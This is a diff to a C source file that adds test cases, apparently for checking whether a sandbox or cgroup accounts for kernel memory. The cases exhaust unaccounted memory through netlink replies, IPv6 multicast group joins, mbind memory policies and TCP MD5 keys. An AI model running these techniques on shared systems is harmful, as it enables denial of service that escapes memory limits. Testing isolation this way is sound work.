@@ -2,12 +2,17 @@
 #include "bombs.h"
 
 #include <linux/limits.h>
+#include <linux/netlink.h>
 #include <linux/posix_acl.h>
 #include <linux/posix_acl_xattr.h>
+#include <linux/sock_diag.h>
+#include <netinet/in.h>
+#include <netinet/tcp.h>
 #include <sys/mman.h>
 #include <sys/prctl.h>
 #include <sys/resource.h>
 #include <sys/sem.h>
+#include <sys/socket.h>
 #include <sys/stat.h>
 #include <sys/xattr.h>
 
@@ -136,4 +141,80 @@ ESCAPE(memory_access_lists_by_setxattrat, WORD, "some: Linux 6.13, and a tmpfs w
 {
     set_attribute = set_at;
     return in_child(bomb_of_access_lists);
+}
+
+/* Requests that the kernel does not know, each of which it answers; nobody reads the answers. */
+static long answers_waiting(int asking)
+{
+    enum { REQUESTS = 2000 };
+    static struct nlmsghdr unknown[REQUESTS];
+    for (int i = 0; i < REQUESTS; i++)
+        unknown[i] = (struct nlmsghdr){.nlmsg_len = NLMSG_HDRLEN, .nlmsg_type = 1000, .nlmsg_flags = NLM_F_REQUEST};
+    uint32_t told[SK_MEMINFO_VARS] = {0}, before;
+    socklen_t size = sizeof told;
+    do {
+        before = told[SK_MEMINFO_RMEM_ALLOC];
+        if (send(asking, unknown, sizeof unknown, MSG_DONTWAIT) < 0 ||
+            getsockopt(asking, SOL_SOCKET, SO_MEMINFO, told, &size) < 0)
+            break;
+    } while (told[SK_MEMINFO_RMEM_ALLOC] > before);
+    return (long)told[SK_MEMINFO_RMEM_ALLOC];
+}
+
+static int bomb_of_answers(void)
+{
+    struct rlimit files;
+    getrlimit(RLIMIT_NOFILE, &files);
+    files.rlim_cur = files.rlim_max;
+    setrlimit(RLIMIT_NOFILE, &files);
+    for (long size = 0, more; size < goal(); size += more) {
+        int asking = socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE);
+        more = asking < 0 ? -1 : answers_waiting(asking);
+        if (more <= 0)
+            return outcome_of(-1);
+    }
+    return kept();
+}
+
+ESCAPE(memory_netlink, WORD, "some: its limit of open files", "takes four times the memory that it may have as answers of the kernel that wait in netlink sockets")
+{
+    return in_child(bomb_of_answers);
+}
+
+ESCAPE(memory_multicast_groups, WORD, "some: IPv6", "joins a thousand groups of IPv6 in one socket, some KB of the kernel each, which count for nobody")
+{
+    int joining = socket(AF_INET6, SOCK_DGRAM, 0);
+    for (int i = 0; i < 1000; i++) {
+        struct ipv6_mreq group = {.ipv6mr_interface = 1, .ipv6mr_multiaddr = {{{0xff, 2, [13] = 1, [14] = (uint8_t)(i >> 8), [15] = (uint8_t)i}}}};
+        if (setsockopt(joining, IPPROTO_IPV6, IPV6_JOIN_GROUP, &group, sizeof group) < 0)
+            return outcome_of(-1);
+    }
+    return THROUGH;
+}
+
+ESCAPE(memory_policies, WORD, "some: CONFIG_NUMA", "gives a hundred thousand pages of an empty memfd rules of their own by mbind, whose memory counts for nobody")
+{
+    enum { BIND = 2, PAGE = 4096 };
+    const unsigned long first_node = 1;
+    int file = memfd_create("policies", 0);
+    ftruncate(file, 1L << 40);
+    for (long i = 0; i < 100000; i++) {
+        void *page = mmap(NULL, PAGE, PROT_READ, MAP_SHARED, file, 2 * PAGE * i);
+        if (page == MAP_FAILED || syscall(SYS_mbind, page, PAGE, BIND, &first_node, 8UL, 0) < 0)
+            return outcome_of(-1);
+        munmap(page, PAGE);
+    }
+    return THROUGH;
+}
+
+ESCAPE(memory_keys_of_segments, WORD, "some: CONFIG_TCP_MD5SIG", "gives one socket a hundred keys that sign segments of TCP, whose memory counts for nobody")
+{
+    int signing = socket(AF_INET, SOCK_STREAM, 0);
+    for (uint32_t i = 1; i <= 100; i++) {
+        struct tcp_md5sig wish = {.tcpm_keylen = TCP_MD5SIG_MAXKEYLEN};
+        *(struct sockaddr_in *)&wish.tcpm_addr = (struct sockaddr_in){.sin_family = AF_INET, .sin_addr = {htonl(i)}};
+        if (setsockopt(signing, IPPROTO_TCP, TCP_MD5SIG, &wish, sizeof wish) < 0)
+            return outcome_of(-1);
+    }
+    return THROUGH;
 }
